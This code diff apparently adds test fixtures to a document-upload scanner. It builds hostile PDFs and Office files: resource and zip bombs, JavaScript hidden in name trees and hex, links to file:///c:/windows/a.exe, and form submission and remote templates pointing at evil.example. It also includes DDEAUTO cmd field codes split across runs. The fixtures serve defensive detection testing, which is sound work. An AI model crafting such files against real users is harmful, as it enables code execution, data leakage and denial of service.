@@ -145,6 +145,88 @@ def layers_over_layers(count: int = 3000) -> bytes:
     return a_page_with(b"/F Do", "/XObject<</F 5 0 R>>", *forms, last)
 
 
+def a_jpx_picture_of_gigabytes(side: int = 60_000) -> bytes:
+    """The header of a JPEG 2000 codestream, and nothing in it."""
+    size = struct.pack(">HIIIIIIIIH", 0, side, side, 0, 0, side, side, 0, 0, 3)
+    size += b"\x07\x01\x01" * 3
+    style = b"\x00\x00\x00\x01\x00\x05\x04\x04\x00\x01"
+    codes = [
+        b"\xff\x4f\xff\x51", struct.pack(">H", len(size) + 2), size,
+        b"\xff\x52", struct.pack(">H", len(style) + 2), style,
+        b"\xff\x5c\x00\x13\x40" + bytes(16), b"\xff\x90\x00\x0a\x00\x00", struct.pack(">I", 14),
+        b"\x00\x01\xff\x93\xff\xd9",
+    ]  # fmt: skip
+    return _image(f"/Width {side}/Height {side}/Filter/JPXDecode", b"".join(codes))
+
+
+def a_fax_picture_of_gigabytes(side: int = 200_000) -> bytes:
+    size = f"/Width {side}/Height {side}/ColorSpace/DeviceGray/Filter/CCITTFaxDecode"
+    words = f"{size}/DecodeParms<</K -1/Columns {side}/Rows {side}>>"
+    return _image(words, bytes(64)).replace(b"BitsPerComponent 8", b"BitsPerComponent 1")
+
+
+def object_streams(stream_words: str, inner: bytes) -> bytes:
+    """The page lies in an object stream (object 4) with these words beside it."""
+    plain = [
+        b"1 0 obj\n%s\nendobj\n" % CATALOG.encode(),
+        b"2 0 obj\n%s\nendobj\n" % PAGES.encode(),
+        b"4 0 obj\n%s\nendobj\n"
+        % stream(zlib.compress(inner), f"/Type/ObjStm{stream_words}/Filter/FlateDecode"),
+    ]
+    body, places = b"%PDF-1.7\n", []
+    for thing in plain:
+        places.append(len(body))
+        body += thing
+    start = len(body)
+    rows = [(0, 0, 65535), (1, places[0], 0), (1, places[1], 0), (2, 4, 0), (1, places[2], 0),
+            (1, start, 0)]  # fmt: skip
+    table = b"".join(struct.pack(">BIH", *row) for row in rows)
+    words = "/Type/XRef/Size 6/W[1 4 2]/Root 1 0 R"
+    return body + b"5 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF" % (stream(table, words), start)
+
+
+def an_object_stream_in_itself() -> bytes:
+    """The stream says that it lies in itself, and goes on in itself."""
+    return object_streams("/N 2/First 8/Extends 4 0 R", b"3 0 4 0 " + PAGE.encode())
+
+
+def an_object_stream_of_billions() -> bytes:
+    return object_streams("/N 2000000000/First 2000000000", b"3 0 " + PAGE.encode())
+
+
+def an_object_stream_of_gigabytes() -> bytes:
+    packer = zlib.compressobj(9)
+    inner = b"".join(packer.compress(bytes(1 << 20)) for _ in range(400)) + packer.flush()
+    return object_streams("/N 1/First 4/Filter[/FlateDecode/FlateDecode]", inner)
+
+
+def a_deep_tree_of_names(depth: int = 50_000) -> bytes:
+    nodes = [f"<</Kids[{number + 5} 0 R]>>" for number in range(depth)]
+    catalog = "<</Type/Catalog/Pages 2 0 R/Names<</Dests 4 0 R>>>>"
+    return pdf_of([catalog, PAGES, PAGE, *nodes, "<</Names[(a) 3 0 R]>>"])
+
+
+def a_million_notes(count: int = 30_000) -> bytes:
+    note = "<</Type/Annot/Subtype/Text/Rect[0 0 9 9]/Contents(x)>>"
+    return pdf_of(
+        [CATALOG, PAGES, PAGE.replace("/Resources", f"/Annots[{note * count}]/Resources")]
+    )
+
+
+def an_outline_in_a_circle() -> bytes:
+    catalog = "<</Type/Catalog/Pages 2 0 R/Outlines 4 0 R>>"
+    return pdf_of(
+        [catalog, PAGES, PAGE, "<</First 5 0 R/Last 5 0 R>>", "<</Next 5 0 R/First 5 0 R>>"]
+    )
+
+
+def a_shading_of_dust() -> bytes:
+    function = "<</FunctionType 2/Domain[0 1]/C0[0]/C1[1]/N 1>>"
+    deep = "<</FunctionType 3/Domain[0 1]/Functions[6 0 R 6 0 R]/Bounds[.5]/Encode[0 1 0 1]>>"
+    shading = "<</ShadingType 1/ColorSpace/DeviceGray/Domain[0 1e9 0 1e9]/Function 6 0 R>>"
+    return a_page_with(b"/S sh", "/Shading<</S 5 0 R>>", shading, deep, function)
+
+
 HEAVY: dict[str, Callable[[], bytes]] = {
     made.__name__: made
     for made in (
@@ -160,6 +242,15 @@ HEAVY: dict[str, Callable[[], bytes]] = {
         a_picture_of_gigabytes,
         a_content_of_gigabytes,
         a_jbig2_picture_of_gigabytes,
+        a_jpx_picture_of_gigabytes,
+        a_fax_picture_of_gigabytes,
+        an_object_stream_in_itself,
+        an_object_stream_of_billions,
+        an_object_stream_of_gigabytes,
+        a_deep_tree_of_names,
+        a_million_notes,
+        an_outline_in_a_circle,
+        a_shading_of_dust,
         a_pattern_of_dust,
         layers_over_layers,
     )
@@ -189,6 +280,13 @@ def script_in_a_packed_object() -> bytes:
     table = b"".join(struct.pack(">BIH", *row) for row in rows)
     words = "/Type/XRef/Size 7/W[1 4 2]/Root 1 0 R"
     return body + b"6 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF" % (stream(table, words), start)
+
+
+def a_link(target: str) -> bytes:
+    """A page with a link; target: a PDF string."""
+    action = f"<</S/URI/URI{target}>>"
+    note = f"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A{action}>>]"
+    return pdf_of([CATALOG, PAGES, PAGE.replace("/Resources", f"{note}/Resources")])
 
 
 SCRIPT = "<</S/JavaScript/JS(app.alert\\(1\\))>>"
@@ -252,6 +350,64 @@ DANGEROUS_PDFS: dict[str, tuple[str, bytes]] = {
             FILE_INSIDE,
         ),
     ),
+    "script deep in the tree of names": (
+        "javascript",
+        _catalog(
+            "/Names<</JavaScript 4 0 R>>",
+            "<</Kids[5 0 R]>>",
+            "<</Kids[6 0 R]>>",
+            "<</Names[(a) 7 0 R]>>",
+            SCRIPT,
+        ),
+    ),
+    "script in a chain of actions": (
+        "javascript",
+        _catalog("/OpenAction<</S/Named/N/NextPage/Next 4 0 R>>", SCRIPT),
+    ),
+    "script in hexadecimal": (
+        "javascript",
+        _catalog("/OpenAction<</S/JavaScript/JS<6170702E616C65727428312929>>>"),
+    ),
+    "script of an outline": (
+        "javascript",
+        _catalog("/Outlines 4 0 R", "<</First 5 0 R/Last 5 0 R>>", f"<</Title(a)/A{SCRIPT}>>"),
+    ),
+    "another file is opened": (
+        "starts_programs",
+        _catalog(r"/OpenAction<</S/GoToR/D[0/Fit]/F(\\\\evil\\share\\a.pdf)>>"),
+    ),
+    "a link that runs": ("starts_programs", a_link("(javascript:alert\\(1\\))")),
+    "a link that runs, in hexadecimal": (
+        "starts_programs",
+        a_link(f"<{b'JavaScript:alert(1)'.hex()}>"),
+    ),
+    "a link to a file": ("starts_programs", a_link("(file:///c:/windows/a.exe)")),
+    "a form that is sent": (
+        "active_content",
+        _catalog("/OpenAction<</S/SubmitForm/F(https://evil.example)>>"),
+    ),
+    "a film": (
+        "active_content",
+        pdf_of(
+            [
+                CATALOG,
+                PAGES,
+                PAGE.replace(
+                    "/Resources",
+                    "/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]/Resources",
+                ),
+            ]
+        ),
+    ),
+    "a program that is a pdf too": ("not_a_pdf", b"MZ\x90\0" + pdf_of([CATALOG, PAGES, PAGE])),
+    "a web page that is a pdf too": (
+        "not_a_pdf",
+        b"<html><script>1</script>" + pdf_of([CATALOG, PAGES, PAGE]),
+    ),
+    "a form for one program, in parts": (
+        "xfa_form",
+        _catalog("/AcroForm<</XFA[(template) 4 0 R]/Fields[]>>", stream(b"<xdp/>")),
+    ),
     "a form for one program": (
         "xfa_form",
         _catalog("/AcroForm<</XFA 4 0 R/Fields[]>>", stream(b"<xdp/>")),
@@ -287,11 +443,29 @@ def a_bomb_of_overlapping_parts(count: int = 60) -> bytes:
 
 
 DOS_STUB = b"MZ\x90" + bytes(60) + b"This program cannot be run in DOS mode.\r\n"
-OUTSIDE = (
-    b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/'
-    b'2006/relationships/attachedTemplate" Target="http://evil.example/a.dotm" '
-    b'TargetMode="External"/></Relationships>'
-)
+RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def outside(kind: str, target: str = "http://evil.example/a", mode: str = "External") -> bytes:
+    """The relations of a part, one of which leads elsewhere."""
+    return (
+        f'<Relationships><Relationship Id="r1" Type="{RELATION}/{kind}" Target="{target}" '
+        f'TargetMode="{mode}"/></Relationships>'
+    ).encode()
+
+
+def content_types(kind: str) -> dict[str, bytes]:
+    types = f'<Types><Override PartName="/word/a.bin" ContentType="application/{kind}"/></Types>'
+    return {"[Content_Types].xml": types.encode()}
+
+
+def field_code(*runs: str) -> bytes:
+    """A paragraph with a field whose code is cut into runs."""
+    code = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
+    return f'<w:document xmlns:w="w"><w:p>{code}</w:p></w:document>'.encode()
+
+
+PROGRAM = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(99)
 DANGEROUS_DOCUMENTS: dict[str, tuple[str, str, bytes]] = {
     "docx with macros": ("plan.docx", "macros", packed({"word/vbaProject.bin": b"x"})),
     "xlsx with macros": ("plan.xlsx", "macros", packed({"xl/vbaProject.bin": b"x"}, "xl")),
@@ -300,7 +474,126 @@ DANGEROUS_DOCUMENTS: dict[str, tuple[str, str, bytes]] = {
     "docx with a template elsewhere": (
         "plan.docx",
         "macros",
-        packed({"word/_rels/settings.xml.rels": OUTSIDE}),
+        packed({"word/_rels/settings.xml.rels": outside("attachedTemplate")}),
+    ),
+    "docx with a picture from elsewhere": (
+        "plan.docx",
+        "macros",
+        packed({"word/_rels/document.xml.rels": outside("image")}),
+    ),
+    "docx whose relations are in utf-16": (
+        "plan.docx",
+        "macros",
+        packed({"word/_rels/a.xml.rels": outside("frame").decode().encode("utf-16")}),
+    ),
+    "docx whose relations hide a word": (
+        "plan.docx",
+        "macros",
+        packed({"word/_rels/a.xml.rels": outside("frame", mode="&#69;xternal")}),
+    ),
+    "pptx with an object elsewhere": (
+        "plan.pptx",
+        "macros",
+        packed({"ppt/slides/_rels/slide1.xml.rels": outside("oleObject")}, "ppt"),
+    ),
+    "xlsx linked to another workbook": (
+        "plan.xlsx",
+        "macros",
+        packed(
+            {"xl/externalLinks/_rels/externalLink1.xml.rels": outside("externalLinkPath")}, "xl"
+        ),
+    ),
+    "xlsx that asks a program": (
+        "plan.xlsx",
+        "macros",
+        packed(
+            {"xl/externalLinks/a.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'},
+            "xl",
+        ),
+    ),
+    "xlsx that fetches a page": (
+        "plan.xlsx",
+        "macros",
+        packed(
+            {"xl/connections.xml": b'<connections><c><webPr url="http://e"/></c></connections>'},
+            "xl",
+        ),
+    ),
+    "docx that asks a program": (
+        "plan.docx",
+        "macros",
+        packed({"word/header1.xml": field_code(" DD", "EAUTO c:\\\\cmd ")}),
+    ),
+    "docx that includes a page": (
+        "plan.docx",
+        "macros",
+        packed({"word/footer1.xml": field_code(' INCLUDETEXT "http://evil.example"')}),
+    ),
+    "docx with a link that runs": (
+        "plan.docx",
+        "macros",
+        packed({"word/_rels/a.xml.rels": outside("hyperlink", "javascript:alert(1)")}),
+    ),
+    "pptx with a button that starts a program": (
+        "plan.pptx",
+        "macros",
+        packed(
+            {"ppt/slides/slide1.xml": b'<s><hlinkClick action="ppaction://program"/></s>'}, "ppt"
+        ),
+    ),
+    "docx with macros under another name": (
+        "plan.docx",
+        "macros",
+        packed(content_types("vnd.ms-office.vbaProject")),
+    ),
+    "docx with an active control": (
+        "plan.docx",
+        "macros",
+        packed({"word/activeX/activeX1.bin": b"x"}),
+    ),
+    "pptx with a workbook with macros": (
+        "plan.pptx",
+        "macros",
+        packed({"ppt/embeddings/a.xlsx": packed({"xl/vbaProject.bin": b"x"}, "xl")}, "ppt"),
+    ),
+    "pptx with a workbook that allows macros": (
+        "plan.pptx",
+        "macros",
+        packed({"ppt/embeddings/a.xlsm": b"x"}, "ppt"),
+    ),
+    "docx in docx in docx without end": (
+        "plan.docx",
+        "zip_bomb",
+        packed(
+            {
+                "word/embeddings/a.docx": packed(
+                    {
+                        "word/embeddings/a.docx": packed(
+                            {
+                                "word/embeddings/a.docx": packed(
+                                    {"word/embeddings/a.docx": packed({})}
+                                )
+                            }
+                        )
+                    }
+                )
+            }
+        ),
+    ),
+    "docx with an archive called a picture": (
+        "plan.docx",
+        "program_inside",
+        packed({"word/media/image1.png": packed({})}),
+    ),
+    "docx with a program without a message": (
+        "plan.docx",
+        "program_inside",
+        packed({"word/media/image1.png": PROGRAM}),
+    ),
+    "docx with a script in an object": (
+        "plan.docx",
+        "program_inside",
+        packed({"word/embeddings/oleObject1.bin": b"\x02\0run.vbs\0c:\\a\\run.vbs\0\0"}),
     ),
     "hwpx with a program": (
         "plan.hwpx",
